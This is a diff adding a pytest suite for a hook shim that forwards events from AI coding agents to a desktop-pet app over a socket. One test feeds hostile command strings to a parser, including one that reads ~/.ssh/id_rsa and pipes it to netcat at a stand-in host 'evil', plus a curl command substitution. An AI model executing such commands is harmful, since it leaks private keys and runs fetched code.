@@ -1,0 +1,157 @@
+"""The shim as agents run it: a real subprocess, real stdin, a real (or missing) socket."""
+
+from __future__ import annotations
+
+import json
+import os
+import queue
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from deskpet import paths
+from deskpet.bridge import events, hook
+from deskpet.bridge.server import BridgeServer
+
+FIXTURES = Path(__file__).parent / "fixtures"
+ALL = sorted(p.name for p in FIXTURES.glob("*.json"))
+
+
+def expected_stdout(name: str) -> str:
+    if name.startswith("cursor_beforeSubmitPrompt"):
+        return '{"continue": true}'
+    return "{}" if name.startswith(("cursor", "gemini")) else ""
+
+
+def run_shim(agent: str, stdin: bytes | None, *extra: str) -> tuple[subprocess.CompletedProcess, float]:
+    start = time.monotonic()
+    proc = subprocess.run(
+        [sys.executable, "-m", "deskpet.bridge.hook", "--agent", agent, *extra],
+        input=stdin,
+        stdin=subprocess.DEVNULL if stdin is None else None,
+        capture_output=True,
+        timeout=10,
+    )
+    return proc, time.monotonic() - start
+
+
+def run_fixture(name: str) -> tuple[subprocess.CompletedProcess, float]:
+    agent = name.split("_")[0]
+    data = (FIXTURES / name).read_bytes()
+    if name.startswith("codex_notify"):
+        # Codex's notify passes the JSON as the last argument, not on stdin.
+        return run_shim(agent, None, data.decode())
+    return run_shim(agent, data)
+
+
+@pytest.mark.parametrize("name", ALL)
+def test_every_fixture_without_a_pet(home, name):
+    # GIVEN no pet listening WHEN the agent runs the hook THEN it exits 0 fast, with the reply
+    proc, elapsed = run_fixture(name)
+    assert proc.returncode == 0
+    assert proc.stdout.decode() == expected_stdout(name)
+    assert proc.stderr == b""
+    assert elapsed < 1.0
+
+
+@pytest.mark.parametrize("agent", hook.AGENTS)
+@pytest.mark.parametrize("stdin", ["empty", "random5mb"])
+def test_junk_stdin(home, agent, stdin):
+    data = b"" if stdin == "empty" else os.urandom(5 * 1024 * 1024)
+    proc, elapsed = run_shim(agent, data)
+    assert proc.returncode == 0
+    assert proc.stdout.decode() == ("{}" if agent in ("cursor", "gemini") else "")
+    assert elapsed < 1.0
+
+
+def test_stdin_that_never_closes(home):
+    # An agent that keeps stdin open must not keep the shim alive.
+    start = time.monotonic()
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "deskpet.bridge.hook", "--agent", "cursor"],
+        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+    )
+    try:
+        proc.stdin.write(b'{"hook_event_name": "stop"')
+        proc.stdin.flush()
+        out = proc.stdout.read()  # returns at EOF: the shim exited although stdin is open
+        assert proc.wait(timeout=5) == 0
+    finally:
+        proc.stdin.close()
+        proc.stdout.close()
+        proc.stderr.close()
+    assert out == b"{}"
+    assert time.monotonic() - start < 1.5
+
+
+def test_bad_arguments_still_exit_zero(home):
+    for args in ([], ["--agent"], ["--agent", "nobody"], ["--bogus", "{not json"]):
+        proc = subprocess.run(
+            [sys.executable, "-m", "deskpet.bridge.hook", *args],
+            input=b"{}", capture_output=True, timeout=10,
+        )
+        assert (proc.returncode, proc.stdout) == (0, b""), args
+
+
+def test_every_fixture_reaches_a_real_listener(home):
+    # GIVEN a running pet WHEN each fixture goes through the shim THEN the event arrives normalized
+    got: queue.Queue = queue.Queue()
+    with BridgeServer(got.put) as server:
+        assert server.path == Path(hook.socket_path())
+        for name in ALL:
+            proc, _ = run_fixture(name)
+            assert proc.returncode == 0
+            event = got.get(timeout=2)
+            agent = name.split("_")[0]
+            payload = json.loads((FIXTURES / name).read_text())
+            want = events.from_payload(agent, payload, "notify" if "notify" in name else "hook")
+            assert (event.agent, event.kind, event.session, event.tool) == (
+                want.agent, want.kind, want.session, want.tool), name
+            assert event.source == ("notify" if "notify" in name else "hook")
+    assert got.empty()
+
+
+def test_truncated_huge_payload_still_yields_the_event(home):
+    payload = json.loads((FIXTURES / "claude_posttooluse_edit.json").read_text())
+    payload["tool_response"]["originalFile"] = "x" * (2 * hook.MAX_STDIN)
+    got: queue.Queue = queue.Queue()
+    with BridgeServer(got.put):
+        proc, elapsed = run_shim("claude", json.dumps(payload).encode())
+        event = got.get(timeout=2)
+    assert proc.returncode == 0 and elapsed < 1.0
+    assert (event.kind, event.tool.name) == ("tool_end", "Edit")
+
+
+def test_shim_imports_only_the_standard_library():
+    # Compared with a bare interpreter: importing the shim may add stdlib modules and itself.
+    code = "import json, sys; {} print(json.dumps([m for m in sys.modules if m[0] != '_']))"
+    before = subprocess.run([sys.executable, "-c", code.format("")],
+                            capture_output=True, text=True, timeout=10)
+    after = subprocess.run([sys.executable, "-c", code.format("import deskpet.bridge.hook;")],
+                           capture_output=True, text=True, timeout=10)
+    added = set(json.loads(after.stdout)) - set(json.loads(before.stdout))
+    assert {"deskpet", "deskpet.bridge", "deskpet.bridge.hook"} <= added
+    foreign = {m for m in added if m.split(".")[0] not in sys.stdlib_module_names}
+    assert foreign == {"deskpet", "deskpet.bridge", "deskpet.bridge.hook"}
+
+
+@pytest.mark.parametrize("platform", ["linux", "darwin"])
+@pytest.mark.parametrize("env", ["deskpet_home", "xdg", "plain"])
+def test_shim_socket_path_matches_paths_module(home, monkeypatch, platform, env):
+    monkeypatch.setattr(sys, "platform", platform)
+    if env != "deskpet_home":
+        monkeypatch.delenv("DESKPET_HOME")
+    if env == "xdg":
+        monkeypatch.setenv("XDG_DATA_HOME", str(home / "xdg"))
+    assert hook.socket_path() == str(paths.data_dir() / hook.SOCKET_NAME)
+
+
+def test_command_head_keeps_programs_not_arguments():
+    assert hook.command_head('cd "/a b" && FOO=1 sudo git push --force origin main') == "git push"
+    assert hook.command_head("cat ~/.ssh/id_rsa | nc evil 1") == "cat"
+    assert hook.command_head("python3 -c 'print(1)'") == "python3"
+    assert hook.command_head("$(curl x)") == ""
+    assert hook.command_head(None) == ""
